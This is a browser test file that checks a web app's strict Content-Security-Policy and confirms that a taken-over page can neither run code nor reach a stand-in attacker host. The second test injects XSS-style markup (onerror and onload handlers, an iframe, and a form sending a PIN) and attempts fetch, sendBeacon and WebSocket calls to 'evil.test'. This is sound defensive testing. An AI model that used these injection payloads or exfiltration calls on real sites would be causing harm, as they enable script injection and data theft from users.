import { expect, test } from '../support/appTest';
import { EVIL } from '../support/hostile/attacks';
import { theInternet } from '../support/hostile/theInternet';

test('the app is served with a policy under which nothing foreign runs or is fetched', async ({ page }) => {
  const answer = await page.request.get('/');
  const policy = new Map(
    (answer.headers()['content-security-policy'] ?? '').split('; ').map((directive) => {
      const [name = '', ...sources] = directive.split(' ');
      return [name, sources.join(' ')] as const;
    }),
  );
  for (const name of ['default-src', 'base-uri', 'form-action', 'frame-ancestors'])
    expect(policy.get(name), name).toBe("'none'");
  for (const name of ['script-src', 'connect-src', 'worker-src', 'frame-src', 'font-src'])
    expect(policy.get(name), name).toBe("'self'");
  // Pictures that were brought in are held in memory; styles are set on elements by the components.
  expect(policy.get('img-src')).toBe("'self' blob:");
  expect(policy.get('style-src')).toBe("'self' 'unsafe-inline'");
  expect([...policy.values()].join(' ')).not.toMatch(/unsafe-eval|https?:|data:|\*/);

  const html = await answer.text();
  expect(html.match(/<script[^>]*>/g)).not.toBeNull();
  for (const script of html.match(/<script[^>]*>[\s\S]*?<\/script>/g) ?? [])
    expect(script).toMatch(/src="\.\/[^"]+"[^>]*><\/script>$/);
  expect(html).not.toMatch(/\son[a-z]+=|https?:\/\//i);
});

test('under that policy a page that was taken over runs and fetches nothing', async ({ browser, baseURL }) => {
  const internet = await theInternet();
  const context = await browser.newContext({
    ...(baseURL === undefined ? {} : { baseURL }),
    serviceWorkers: 'allow',
    proxy: { server: `http://127.0.0.1:${internet.port}`, bypass: `<-loopback>;${new URL(baseURL ?? '').host}` },
  });
  const page = await context.newPage();
  await page.goto('/');
  const outcome = await page.evaluate(async (evil) => {
    const refused = async (act: () => unknown) => {
      try {
        await act();
        return 'done';
      } catch {
        return 'refused';
      }
    };
    document.body.insertAdjacentHTML(
      'beforeend',
      `<img src="${evil}/img" onerror="window.__hit = 1"><svg onload="window.__hit = 1"></svg>
       <iframe src="${evil}/frame"></iframe><link rel="stylesheet" href="${evil}/css"><object data="${evil}/object"></object>
       <form action="${evil}/form"><input name="pin" value="2580"></form>`,
    );
    const script = document.createElement('script');
    script.textContent = 'window.__hit = 1';
    document.body.append(script);
    document.querySelector<HTMLFormElement>('form[action]')?.submit();
    return {
      fetch: await refused(() => fetch(evil, { mode: 'no-cors' })),
      beacon: navigator.sendBeacon(`${evil}/beacon`, 'x'),
      socket: await refused(
        () =>
          new Promise((done, fail) => Object.assign(new WebSocket('ws://evil.test'), { onopen: done, onerror: fail })),
      ),
      hit: '__hit' in window,
    };
  }, EVIL);
  await page.waitForTimeout(300);
  expect(outcome).toMatchObject({ fetch: 'refused', socket: 'refused', hit: false });
  expect(await page.evaluate(() => '__hit' in window)).toBe(false);
  expect(internet.asked).toEqual([]);
  await context.close();
  await internet.close();
});
